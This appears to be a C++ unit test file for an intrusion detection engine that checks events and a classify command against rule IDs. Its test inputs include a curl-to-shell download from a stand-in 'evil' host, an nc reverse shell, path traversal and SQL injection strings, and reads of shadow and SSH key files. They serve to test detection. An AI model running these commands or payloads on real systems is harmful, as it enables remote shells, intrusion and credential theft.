// Engine dispatch over real Cap'n Proto events (built with MallocMessageBuilder and read back
// from their serialised words, as the pipeline reads them from the ring), plus classify output.
#include <capnp/message.h>
#include <capnp/serialize.h>

#include <sstream>

#include "tests/detect/detect_test_util.h"

namespace ringward::detect {
namespace {

using testing::default_engine;
using testing::has;
using testing::joined;

capnp::Data::Reader bytes(std::string_view s) {
  return {reinterpret_cast<const capnp::byte*>(s.data()), s.size()};
}

// Serialises the builder and inspects the event read back from the flat words.
std::vector<Finding> inspect_roundtrip(capnp::MallocMessageBuilder& msg) {
  const kj::Array<capnp::word> words = capnp::messageToFlatArray(msg);
  capnp::FlatArrayMessageReader reader(words);
  std::vector<Finding> f;
  default_engine().inspect(reader.getRoot<schema::Event>(), f);
  return f;
}

TEST(EngineDispatch, ExecEvent) {
  capnp::MallocMessageBuilder msg;
  auto ev = msg.initRoot<schema::Event>();
  ev.setComm(bytes("sh"));
  ev.setParentComm(bytes("nginx"));
  auto exec = ev.initKind().initProcessExec();
  exec.setFilename(bytes("/bin/sh"));
  auto argv = exec.initArgv(3);
  argv.set(0, bytes("sh"));
  argv.set(1, bytes("-c"));
  argv.set(2, bytes("curl -s http://evil/x | sh"));
  const auto f = inspect_roundtrip(msg);
  EXPECT_TRUE(has(f, "RW-CMD-010") && has(f, "RW-CMD-030")) << joined(f);
}

TEST(EngineDispatch, ExecEventBenignAndCommWithNul) {
  capnp::MallocMessageBuilder msg;
  auto ev = msg.initRoot<schema::Event>();
  ev.setComm(bytes(std::string_view("ls\0\0\0\0", 6)));
  ev.setParentComm(bytes(std::string_view("bash\0\0", 6)));
  auto exec = ev.initKind().initProcessExec();
  exec.setFilename(bytes("/usr/bin/ls"));
  auto argv = exec.initArgv(2);
  argv.set(0, bytes("ls"));
  argv.set(1, bytes("-la"));
  EXPECT_TRUE(inspect_roundtrip(msg).empty());
}

TEST(EngineDispatch, FileOpenEvent) {
  capnp::MallocMessageBuilder msg;
  auto ev = msg.initRoot<schema::Event>();
  ev.initKind().initFileOpen().setPath(bytes("../../../../etc/shadow"));
  const auto f = inspect_roundtrip(msg);
  EXPECT_TRUE(has(f, "RW-TRAV-001") && has(f, "RW-TRAV-003")) << joined(f);
}

// A credential file opened by a process that does not normally read it; its usual readers, a
// public key and a look-alike name stay quiet.
TEST(EngineDispatch, CredentialFileOpenedByAnUnusualProcess) {
  auto open_as = [](std::string_view comm, std::string_view path) {
    capnp::MallocMessageBuilder msg;
    auto ev = msg.initRoot<schema::Event>();
    ev.setComm(bytes(comm));
    ev.initKind().initFileOpen().setPath(bytes(path));
    return inspect_roundtrip(msg);
  };
  EXPECT_TRUE(has(open_as("cat", "/etc/shadow"), "RW-CRED-001"));
  EXPECT_TRUE(has(open_as(std::string_view("python3\0\0\0", 10), "/home/bob/.ssh/id_ed25519"), "RW-CRED-001"));
  EXPECT_TRUE(has(open_as("bash", "/etc/sudoers.d/90-cloud"), "RW-CRED-001"));
  EXPECT_TRUE(open_as("sshd", "/etc/shadow").empty());
  EXPECT_TRUE(open_as("unix_chkpwd", "/etc/shadow").empty());
  EXPECT_TRUE(open_as("systemd-logind", "/etc/shadow").empty());
  EXPECT_TRUE(open_as("ssh", "/root/.ssh/id_rsa").empty());
  EXPECT_TRUE(open_as("cat", "/home/bob/.ssh/id_rsa.pub").empty());
  EXPECT_TRUE(open_as("cat", "/etc/shadow.bak").empty());
  EXPECT_TRUE(open_as("cat", "/etc/passwd").empty());  // world-readable by design
}

TEST(EngineDispatch, PrivilegeChangeEvent) {
  capnp::MallocMessageBuilder msg;
  auto ev = msg.initRoot<schema::Event>();
  ev.setComm(bytes("a.out"));
  auto pc = ev.initKind().initPrivilegeChange();
  pc.setSyscall("setresuid");
  pc.setOldUid(1000);
  pc.setOldEuid(1000);
  pc.setNewUid(0);
  pc.setNewEuid(0);
  EXPECT_TRUE(has(inspect_roundtrip(msg), "RW-PRIV-001"));
  ev.setComm(bytes("sudo"));
  EXPECT_TRUE(inspect_roundtrip(msg).empty());
  // Group root gained without effective root, from the event's gid fields.
  ev.setComm(bytes("a.out"));
  pc.setSyscall("setresgid");
  pc.setNewUid(1000);
  pc.setNewEuid(1000);
  pc.setOldGid(1000);
  pc.setOldEgid(1000);
  pc.setNewGid(1000);
  pc.setNewEgid(0);
  auto f = inspect_roundtrip(msg);
  EXPECT_TRUE(has(f, "RW-PRIV-004") && !has(f, "RW-PRIV-001"));
}

TEST(EngineDispatch, HttpEventTargetAndBody) {
  capnp::MallocMessageBuilder msg;
  auto ev = msg.initRoot<schema::Event>();
  auto h = ev.initKind().initHttp();
  h.setMethod("POST");
  h.setTarget(bytes("/login?next=%2e%2e%2f%2e%2e%2fetc%2fpasswd"));
  h.setRequest(bytes("POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: "
                     "application/x-www-form-urlencoded\r\n\r\nuser=admin%27--&pw=x"));
  const auto f = inspect_roundtrip(msg);
  EXPECT_TRUE(has(f, "RW-TRAV-002") && has(f, "RW-SQLI-004")) << joined(f);
  // Each rule id at most once per event.
  for (std::size_t i = 0; i < f.size(); ++i) {
    for (std::size_t j = i + 1; j < f.size(); ++j) EXPECT_NE(f[i].rule_id, f[j].rule_id);
  }
}

TEST(EngineDispatch, BenignHttpAndOtherKinds) {
  capnp::MallocMessageBuilder msg;
  auto ev = msg.initRoot<schema::Event>();
  auto h = ev.initKind().initHttp();
  h.setTarget(bytes("/search?q=select+a+product&name=O%27Brien"));
  h.setRequest(bytes("GET /search HTTP/1.1\r\nHost: x\r\n\r\n"));
  EXPECT_TRUE(inspect_roundtrip(msg).empty());
  ev.initKind().initProcessExit().setExitCode(0);
  EXPECT_TRUE(inspect_roundtrip(msg).empty());
  ev.initKind().initNetConnect().setDstPort(443);
  EXPECT_TRUE(inspect_roundtrip(msg).empty());
}

TEST(EngineDispatch, HugeInputsAreCappedAndCounted) {
  const Engine& e = default_engine();
  const EngineStats before = e.stats();
  std::string big(200000, 'a');
  big += "/../../etc/passwd";  // beyond the cap: not seen, but the truncation is counted
  std::vector<Finding> f;
  e.inspect_http_target(big, f);
  e.inspect_file_path(big, f);
  CommandInput c;
  c.command_line = big;
  e.inspect_command(c, f);
  EXPECT_TRUE(f.empty()) << joined(f);
  EXPECT_GE(e.stats().inputs_truncated, before.inputs_truncated + 3);
  EXPECT_EQ(e.stats().scan_errors, 0u);
}

TEST(Classify, OutputFormat) {
  const Engine& e = default_engine();
  std::istringstream in("' or 1=1--\nselect a product\r\n1 union select 1,2\n\n");
  std::ostringstream out;
  EXPECT_EQ(run_classify(e, "sqli", in, out), 0);
  EXPECT_EQ(out.str(), "1\tRW-SQLI-001\n0\n1\tRW-SQLI-002\n0\n");
}

TEST(Classify, TraversalAndCommandKinds) {
  const Engine& e = default_engine();
  std::istringstream tin("/a/../b\n/..%2f..%2fetc/hosts\n");
  std::ostringstream tout;
  EXPECT_EQ(run_classify(e, "traversal", tin, tout), 0);
  EXPECT_EQ(tout.str(), "0\n1\tRW-TRAV-001,RW-TRAV-002,RW-TRAV-003\n");
  std::istringstream cin_("ls -la\nnc -e /bin/sh 10.0.0.1 4444\n/tmp/sshd -D\n");
  std::ostringstream cout_;
  EXPECT_EQ(run_classify(e, "command", cin_, cout_), 0);
  EXPECT_EQ(cout_.str(), "0\n1\tRW-CMD-002\n1\tRW-CMD-041\n");
}

TEST(Classify, UnknownKind) {
  std::istringstream in("x\n");
  std::ostringstream out;
  EXPECT_EQ(run_classify(default_engine(), "xss", in, out), 2);
  EXPECT_TRUE(out.str().empty());
}

TEST(Classify, SameAnswerAsPipelineEntryPoint) {
  // classify --kind traversal is inspect_http_target; an HTTP event with that target agrees.
  const Engine& e = default_engine();
  for (const char* t : {"/x?f=..%252f..%252fetc%252fshadow", "/ok/path", "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/b"}) {
    std::istringstream in(t);
    std::ostringstream out;
    run_classify(e, "traversal", in, out);
    capnp::MallocMessageBuilder msg;
    msg.initRoot<schema::Event>().initKind().initHttp().setTarget(bytes(t));
    const auto f = inspect_roundtrip(msg);
    EXPECT_EQ(out.str().substr(0, 1), f.empty() ? "0" : "1") << t;
  }
}

}  // namespace
}  // namespace ringward::detect
